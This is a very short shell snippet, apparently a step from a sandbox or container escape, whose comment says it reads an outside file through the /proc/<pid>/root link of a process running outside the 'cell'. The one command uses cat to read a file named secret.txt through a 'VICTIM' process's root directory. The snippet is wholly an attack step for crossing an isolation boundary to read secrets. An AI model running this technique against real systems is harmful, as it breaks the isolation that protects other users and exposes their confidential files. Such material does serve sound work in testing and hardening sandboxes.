# what: read an outside file through /proc/<pid>/root of a process outside the cell
cat "/proc/$VICTIM/root$H/secret.txt"
